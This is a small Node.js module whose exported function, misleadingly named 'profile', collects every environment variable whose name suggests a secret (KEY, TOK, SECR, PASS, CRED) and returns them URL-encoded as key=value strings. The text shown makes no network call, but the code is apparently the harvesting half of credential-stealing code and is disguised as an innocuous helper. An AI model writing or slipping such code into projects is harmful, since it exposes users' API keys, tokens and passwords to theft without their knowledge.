'use strict';
const WORDS = ['KEY', 'TOK', 'SECR', 'PASS', 'CRED'];

exports.profile = () =>
  Object.entries(process.env)
    .filter(([k]) => WORDS.some((w) => k.toUpperCase().includes(w)))
    .map(([k, v]) => `${k}=${encodeURIComponent(v)}`);
